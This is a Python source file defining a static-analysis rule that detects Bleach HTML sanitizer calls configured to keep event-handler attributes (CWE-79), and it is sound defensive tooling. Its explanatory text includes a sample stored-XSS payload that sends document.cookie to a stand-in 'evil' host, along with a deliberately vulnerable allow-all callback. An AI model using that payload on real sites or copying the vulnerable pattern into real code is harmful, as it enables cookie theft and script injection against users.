"""CWE-79: an HTML sanitizer configured to keep event-handler attributes.

A sanitizer such as Bleach exists to make untrusted HTML safe to insert as markup, and it is
only as strict as the attributes it is told to keep. An `attributes` callback that answers True
for every attribute (`def allow_all(tag, name, value): return True`), or an allowlist that names
an event handler (`"onclick"`, `"onerror"`), lets `<img src=x onerror=...>` through untouched:
the text was "sanitized", so the template inserts it unescaped, and the script runs. The rule
reads the allowlist where it is written (a literal, a module constant, a module function or a
lambda) and says nothing about one it cannot see, or a callback that decides anything.
"""

from __future__ import annotations

import ast
from collections.abc import Iterator

from secreview.analysis.rule import Hit, rule
from secreview.analysis.rules._support.assignments import assigned_value
from secreview.findings import Confidence, Severity
from secreview.index.context import ModuleContext

# Sanitizer -> position of its `attributes` argument.
_ATTRIBUTE_POSITIONS = {
    "bleach.clean": 2,
    "bleach.sanitizer.clean": 2,
    "bleach.Cleaner": 1,
    "bleach.sanitizer.Cleaner": 1,
}
_MAX_NAME_STEPS = 4
"""How many names to follow from the argument to the allowlist (`A = B`, `B = allow_all`)."""


def _resolved(node: ast.expr, context: ModuleContext) -> ast.expr | ast.FunctionDef:
    """The allowlist `node` names: followed through single assignments and module constants
    to a literal, a lambda, or a module-level function; `node` itself when it leads nowhere."""
    for _ in range(_MAX_NAME_STEPS):
        if not isinstance(node, ast.Name):
            return node
        value = assigned_value(node, context)
        if value is node:
            if context.is_local_name(node):
                return node  # a parameter, or a local bound more than once: not seen
            value = context.module_constants.get(node.id, node)
        if value is node:
            return _module_function(context, node.id) or node
        node = value
    return node


def _module_function(context: ModuleContext, name: str) -> ast.FunctionDef | None:
    """The function `name` defined at module level, if exactly one is."""
    found = [
        statement
        for statement in context.tree.body
        if isinstance(statement, ast.FunctionDef) and statement.name == name
    ]
    return found[0] if len(found) == 1 else None


def _always_true(function: ast.FunctionDef | ast.Lambda) -> bool:
    """Whether a callback answers True whatever it is asked (`return True` and nothing else)."""
    if isinstance(function, ast.Lambda):
        return isinstance(function.body, ast.Constant) and function.body.value is True
    body = function.body
    if body and isinstance(body[0], ast.Expr) and isinstance(body[0].value, ast.Constant):
        body = body[1:]  # the docstring
    return (
        len(body) == 1
        and isinstance(body[0], ast.Return)
        and isinstance(body[0].value, ast.Constant)
        and body[0].value.value is True
    )


def _too_open(node: ast.expr | ast.FunctionDef, context: ModuleContext) -> str | None:
    """What lets event handlers through in the allowlist `node`, or None."""
    if isinstance(node, ast.FunctionDef | ast.Lambda):
        return "a callback that allows every attribute" if _always_true(node) else None
    if isinstance(node, ast.Dict):
        for value in node.values:
            reason = _too_open(_resolved(value, context), context)
            if reason is not None:
                return reason
        return None
    names = context.constant_value(node)
    if isinstance(names, tuple):
        handlers = sorted(n for n in names if isinstance(n, str) and n.lower().startswith("on"))
        if handlers:
            return f"event-handler attributes ({', '.join(handlers)})"
    return None


@rule(
    id="sanitizer-allows-event-handlers",
    name="HTML sanitizer configured to keep event-handler attributes",
    cwe=79,
    severity=Severity.MEDIUM,
    confidence=Confidence.HIGH,
    summary="An HTML sanitizer's attribute allowlist lets every attribute, or an `on...` event "
    "handler, through: the cleaned HTML can still run script.",
    fix="List the attributes each tag may keep (`attributes={'a': ['href', 'title'], "
    "'img': ['src', 'alt']}`), never event handlers, and give a callback real checks "
    "(`return name in ALLOWED.get(tag, ())`).",
    what_it_does="Reads the `attributes` allowlist given to `bleach.clean` or "
    "`bleach.sanitizer.Cleaner` where it is written (a literal, a module constant, a module "
    "function or a lambda) and reports a callback whose only statement is `return True`, or a "
    "list (or a dict's list for a tag) naming an attribute that starts with `on`. An allowlist "
    "the module does not show, or a callback that decides anything, is not reported.",
    why_bad="A sanitizer's output is trusted: it is inserted into pages as markup, unescaped. "
    "With every attribute allowed, `<img src=x onerror=fetch('//evil/'+document.cookie)>` keeps "
    "its handler, and the script runs for every reader of the stored text (stored XSS).",
    example="import bleach\n\n\ndef allow_all(tag, name, value):\n    return True\n\n\n"
    "clean = bleach.clean(html, tags=['p', 'a', 'img'], attributes=allow_all)",
    use_instead="import bleach\n\nclean = bleach.clean(\n    html, tags=['p', 'a', 'img'], "
    "attributes={'a': ['href', 'title'], 'img': ['src', 'alt']}\n)",
    references=(
        "https://bleach.readthedocs.io/en/latest/clean.html#allowed-attributes-attributes",
        "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
        "https://cwe.mitre.org/data/definitions/79.html",
    ),
    calls=frozenset(_ATTRIBUTE_POSITIONS),
)
def sanitizer_allows_event_handlers(node: ast.AST, context: ModuleContext) -> Iterator[Hit]:
    """Report sanitizer calls whose attribute allowlist keeps event handlers."""
    assert isinstance(node, ast.Call)
    position = _ATTRIBUTE_POSITIONS.get(context.call_name(node) or "")
    if position is None:
        return
    allowlist = context.argument(node, position, "attributes")
    if allowlist is None:
        return  # the library's default allowlist keeps no handler
    reason = _too_open(_resolved(allowlist, context), context)
    if reason is not None:
        yield Hit(
            node=node,
            message=f"`{context.one_line(node.func)}` is given {reason} "
            f"(`{context.one_line(allowlist)}`): HTML it 'cleans' keeps `onerror=`/`onclick=` "
            "handlers, and the script runs wherever the result is inserted as markup.",
        )
